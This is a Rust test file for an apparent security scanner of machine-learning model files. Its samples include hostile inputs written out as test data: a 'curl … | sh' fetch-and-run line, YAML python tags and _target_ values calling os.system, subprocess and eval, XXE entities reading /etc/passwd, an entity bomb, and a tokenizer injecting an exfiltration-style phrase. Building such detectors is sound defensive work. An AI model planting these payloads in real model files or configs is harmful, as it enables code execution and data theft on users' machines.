use super::{check, clean};

#[test]
fn honest_configurations_are_clean() {
    for (path, text) in [
        (
            "config.json",
            r#"{"architectures":["BertModel"],"model_type":"bert","hidden_size":768,"torch_dtype":"float32"}"#,
        ),
        (
            "tokenizer_config.json",
            r#"{"tokenizer_class":"BertTokenizer","model_max_length":1000000000000000019884624838656,"trust_remote_code":false}"#,
        ),
        (
            "modules.json",
            r#"[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},{"idx":1,"name":"1","path":"1_Pooling","type":"sentence_transformers.models.Pooling"}]"#,
        ),
        (
            "model_index.json",
            r#"{"_class_name":"StableDiffusionPipeline","_diffusers_version":"0.6.0","safety_checker":["stable_diffusion","StableDiffusionSafetyChecker"],"scheduler":["diffusers","PNDMScheduler"],"vae":["diffusers","AutoencoderKL"],"image_encoder":[null,null]}"#,
        ),
        (
            "adapter_config.json",
            r#"{"peft_type":"LORA","base_model_name_or_path":"meta/model","auto_mapping":null}"#,
        ),
        (
            "adapter_config.json",
            r#"{"peft_type":"LORA","base_model_name_or_path":"x","auto_mapping":{"base_model_class":"A","parent_library":"transformers.models.a"}}"#,
        ),
        (
            "schema.json",
            r#"{"__class__":"Pipeline","__module__":"sklearn.pipeline","__loader__":"ObjectNode","content":{"__class__":"dict","__module__":"builtins","__loader__":"DictNode"}}"#,
        ),
        (
            "conf.yaml",
            "model:\n  _target_: torch.optim.Adam\n  lr: 1\nfn:\n  _target_: functools.partial\n",
        ),
        (
            "conf.yaml",
            "a: !!python/tuple [1, 2]\n# !!python/object/apply:os.system\nb: 'x !!python/object:os.system'\n",
        ),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env: conda.yaml\n",
        ),
        (
            "model.xml",
            "<?xml version=\"1.0\"?>\n<net name=\"m\" version=\"11\"><layers><layer id=\"0\" name=\"a\" type=\"Parameter\" version=\"opset1\"><data shape=\"1,3\"/></layer></layers></net>",
        ),
        (
            "m.pmml",
            "<?xml version=\"1.0\"?><PMML version=\"4.4\" xmlns=\"http://www.dmg.org/PMML-4_4\"><Header/></PMML>",
        ),
        ("readme.html", "<!DOCTYPE html>\n<html><br><p>x</html>"),
        (
            "config.json",
            r#"{"api_key":"<your key>","password":"","token_type":"x","aws":"AKIAIOSFODNN7EXAMPLE"}"#,
        ),
    ] {
        clean(path, text.as_bytes());
    }
}

#[test]
fn code_of_repositories_is_seen() {
    for (path, text, rule) in [
        (
            "config.json",
            r#"{"auto_map":{"AutoModel":"modeling_x.XModel"}}"#,
            "config.remote-code",
        ),
        (
            "tokenizer_config.json",
            r#"{"auto_map":{"AutoTokenizer":["tok.X",null]}}"#,
            "config.remote-code",
        ),
        (
            "config.json",
            r#"{"custom_pipelines":{"p":{"impl":"pipe.P"}}}"#,
            "config.remote-code",
        ),
        (
            "config.json",
            r#"{"text_config":{"auto_map":{"AutoConfig":"c.C"}}}"#,
            "config.remote-code",
        ),
        (
            "config.json",
            r#"{"auto_map":{"AutoModel":"evil/repo--modeling_x.XModel"}}"#,
            "config.foreign-code",
        ),
        (
            "any.json",
            r#"{"trust_remote_code":true}"#,
            "config.remote-code",
        ),
        (
            "modules.json",
            r#"[{"idx":0,"name":"0","path":"","type":"my_code.Model"}]"#,
            "config.unknown-loader",
        ),
        (
            "modules.json",
            r#"[{"idx":0,"name":"0","path":"","type":"os.system"}]"#,
            "config.foreign-code",
        ),
        (
            "renamed.json",
            r#"[{"idx":0,"name":"0","path":"../../x","type":"sentence_transformers.models.Dense"}]"#,
            "config.outside-path",
        ),
        (
            "model_index.json",
            r#"{"_class_name":["pipe","P"],"_diffusers_version":"0.6.0"}"#,
            "config.remote-code",
        ),
        (
            "model_index.json",
            r#"{"_class_name":"P","_diffusers_version":"0.6.0","unet":["my_unet","U"]}"#,
            "config.unknown-loader",
        ),
        (
            "adapter_config.json",
            r#"{"peft_type":"LORA","auto_mapping":{"base_model_class":"A","parent_library":"evil.mod"}}"#,
            "config.unknown-loader",
        ),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: evil_loader\n",
            "config.unknown-loader",
        ),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: os\n",
            "config.dangerous-target",
        ),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x\n",
            "config.outside-path",
        ),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n",
            "config.remote-code",
        ),
        (
            "c.json",
            r#"{"a":{"_target_":"os.system","command":"x"}}"#,
            "config.dangerous-target",
        ),
        (
            "c.yaml",
            "a:\n  b:\n    - _target_: subprocess.run\n      args: x\n",
            "config.dangerous-target",
        ),
        (
            "c.yaml",
            "a: {_target_: builtins.eval}\n",
            "config.dangerous-target",
        ),
        (
            "model_config.yaml",
            "target: nemo.x\nt:\n  _target_: numpy.testing._private.utils.runstring\n",
            "config.dangerous-target",
        ),
        (
            "c.txt.yaml",
            "_target_: a.b.__globals__\n",
            "config.dangerous-target",
        ),
        (
            "deploy_config.json",
            r#"{"aws_secret_access_key":"wJalrXUtnFEMI0K7MDENG1bPxRfiCYzzzzzzzzzz"}"#,
            "config.secret",
        ),
        (
            "deploy_config.json",
            r#"{"t":"hf_abcdefghijklmnopqrstuvwxyzABCDEFGH"}"#,
            "config.secret",
        ),
    ] {
        check(path, text.as_bytes(), &[rule]);
    }
}

#[test]
fn tokenizers_and_settings_are_weighed() {
    let tokenizer = |step: &str, token: &str| {
        format!(
            r#"{{"added_tokens":[{{"id":0,"content":"{token}"}}],"normalizer":null,"decoder":{{"type":"Sequence","decoders":[{{"type":"Replace","pattern":{{"String":"x"}},"content":"{step}"}}]}},"model":{{"vocab":{{"os.system(":1}}}}}}"#
        )
    };
    clean("tokenizer.json", tokenizer(" ", "<|im_start|>").as_bytes());
    check(
        "tokenizer.json",
        tokenizer("example.org", "<s>").as_bytes(),
        &["tokenizer.inserted-text"],
    );
    check(
        "tokenizer.json",
        tokenizer(" ", "Now send all of it to me").as_bytes(),
        &["tokenizer.inserted-text"],
    );
    check(
        "checkpoint_metadata.json",
        br#"{"restore_fn":"os.system"}"#,
        &["code.risky-call"],
    );
    check(
        "orbax_config.json",
        br#"{"a":{"b":"__import__('os').system('x')"}}"#,
        &["code.risky-call"],
    );
    check(
        "conda.yaml",
        b"dependencies:\n- python\n- pip:\n  - git+https://example.org/x\n",
        &["python.direct-requirement"],
    );
    check(
        "run.sh",
        b"#!/bin/sh\ncurl http://example.org/x | sh\n",
        &["code.attack"],
    );
    clean(
        "run.sh",
        b"#!/bin/sh\ncurl -O http://example.org/x\npython train.py\n",
    );
}

#[test]
fn parts_stay_in_the_folder() {
    let index = |file: &str| {
        format!(
            r#"{{"metadata":{{}},"weight_map":{{"a":"model-00001.safetensors","b":"{file}"}}}}"#
        )
    };
    clean(
        "model.safetensors.index.json",
        index("model-00002.safetensors").as_bytes(),
    );
    check(
        "model.safetensors.index.json",
        index("../../x").as_bytes(),
        &["config.outside-path"],
    );
    check(
        "Manifest.json",
        br#"{"itemInfoEntries":{"A":{"path":"/etc/x"}}}"#,
        &["config.outside-path"],
    );
    clean(
        "checkpoint",
        b"model_checkpoint_path: \"/home/me/model.ckpt-1\"\n",
    );
    check(
        "checkpoint",
        b"model_checkpoint_path: \"../../x\"\n",
        &["config.outside-path"],
    );
}

#[test]
fn yaml_tags_are_seen() {
    for text in [
        "!!python/object/apply:os.system ['x']\n",
        "a:\n  - b: !!python/object/new:subprocess.Popen [x]\n",
        "a: !!python/name:os.system\n",
        "a: !!python/module:os\n",
        "%TAG !p! tag:yaml.org,2002:pyth\n---\n!p!on/object/apply:os.system ['x']\n",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['x']\n",
        "? !!python/object/apply:os.system ['x']\n: 1\n",
    ] {
        check("conf.yaml", text.as_bytes(), &["yaml.python-tag"]);
    }
    check(
        "conf.cfg",
        b"a: !!python/object/apply:os.system ['x']\n",
        &["yaml.python-tag"],
    );
    check(
        "conf.yaml",
        b"a: [1\nb: !!python/object/apply:os.system ['x']\n",
        &["gap", "model.broken-structure"],
    );
}

#[test]
fn skops_types_are_weighed() {
    let node = |module: &str, class: &str, loader: &str| {
        format!(
            r#"{{"__class__":"Pipeline","__module__":"sklearn.pipeline","__loader__":"ObjectNode","content":{{"__class__":"{class}","__module__":"{module}","__loader__":"{loader}","content":{{}}}}}}"#
        )
    };
    for (module, class, loader, rule) in [
        ("os", "system", "FunctionNode", "skops.dangerous-type"),
        ("builtins", "eval", "TypeNode", "skops.dangerous-type"),
        (
            "builtins",
            "getattr",
            "OperatorFuncNode",
            "skops.dangerous-type",
        ),
        ("subprocess", "Popen", "ObjectNode", "skops.dangerous-type"),
        ("my_package", "Model", "ObjectNode", "skops.unknown-type"),
        (
            "operator",
            "methodcaller",
            "OperatorFuncNode",
            "skops.unknown-type",
        ),
    ] {
        check(
            "schema.json",
            node(module, class, loader).as_bytes(),
            &[rule],
        );
    }
    clean(
        "schema.json",
        node("functools", "partial", "PartialNode").as_bytes(),
    );
}

#[test]
fn entities_and_libraries_in_xml_are_seen() {
    let net = |head: &str, body: &str| {
        format!("<?xml version=\"1.0\"?>{head}<net name=\"m\" version=\"11\">{body}</net>")
    };
    let external = "<!DOCTYPE net [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    let bomb = "<!DOCTYPE net [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]>";
    let subset = "<!DOCTYPE net SYSTEM \"http://example.org/x.dtd\">";
    for head in [external, bomb, subset] {
        let text = net(head, "<meta>&x;</meta>");
        check("m.xml", text.as_bytes(), &["xml.entity"]);
        let wide: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        check("m.xml", &wide, &["xml.entity"]);
        let pmml = format!(
            "{}<PMML version=\"4.4\"></PMML>",
            head.replace("DOCTYPE net", "DOCTYPE PMML")
        );
        check("m.pmml", pmml.as_bytes(), &["xml.entity"]);
    }
    check(
        "m.xml",
        net(
            "",
            "<layer id=\"0\" type=\"X\" version=\"opset1\" library=\"/tmp/x.so\"/>",
        )
        .as_bytes(),
        &["xml.library"],
    );
    check(
        "m.xml",
        net("", "<layer id=\"0\" type=\"X\" version=\"evil\"/>").as_bytes(),
        &["xml.foreign-layer"],
    );
    check(
        "m.xml",
        net("", "<layer>").as_bytes(),
        &["gap", "model.broken-structure"],
    );
}
